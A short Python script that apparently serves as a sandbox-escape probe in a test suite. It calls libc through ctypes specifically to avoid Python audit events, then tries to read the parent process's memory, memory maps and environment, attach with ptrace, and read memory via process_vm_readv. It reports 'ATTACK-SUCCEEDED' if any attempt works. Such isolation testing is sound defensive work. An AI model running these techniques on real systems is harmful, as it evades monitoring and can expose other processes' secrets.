import ctypes as _ct
_libc = _ct.CDLL(None, use_errno=True)


def raw_read(path, size=4096):
    """open/read through libc: no Python audit event."""
    fd = _libc.open(path.encode(), 0)
    if fd < 0:
        return None
    buf = _ct.create_string_buffer(size)
    n = _libc.read(fd, buf, size)
    _libc.close(fd)
    return buf.raw[:max(n, 0)]


def raw_write(path, data, append=False):
    """open/write through libc (O_WRONLY|O_CREAT|O_TRUNC or O_APPEND): no Python audit event."""
    flags = 0o1 | 0o100 | (0o2000 if append else 0o1000)
    fd = _libc.open(path.encode(), flags, 0o644)
    if fd < 0:
        return False
    _libc.write(fd, data, len(data))
    _libc.close(fd)
    return True
import os
ppid = os.getppid()
won = []
for name in ("mem", "maps", "environ"):
    path = "/proc/%d/%s" % (ppid, name)
    try:
        if open(path, "rb").read(64):
            won.append(path)
    except OSError:
        if raw_read(path, 64):
            won.append("libc " + path)
if ppid > 1:
    if _libc.ptrace(16, ppid, None, None) == 0:  # PTRACE_ATTACH
        won.append("ptrace attach")
        _libc.ptrace(17, ppid, None, None)
    buf = _ct.create_string_buffer(64)

    class iovec(_ct.Structure):
        _fields_ = [("base", _ct.c_void_p), ("len", _ct.c_size_t)]

    local, remote = iovec(_ct.addressof(buf), 64), iovec(0x400000, 64)
    if _libc.process_vm_readv(ppid, _ct.byref(local), 1, _ct.byref(remote), 1, 0) > 0:
        won.append("process_vm_readv")
if won:
    raise RuntimeError("ATTACK-SUCCEEDED: " + ", ".join(won))
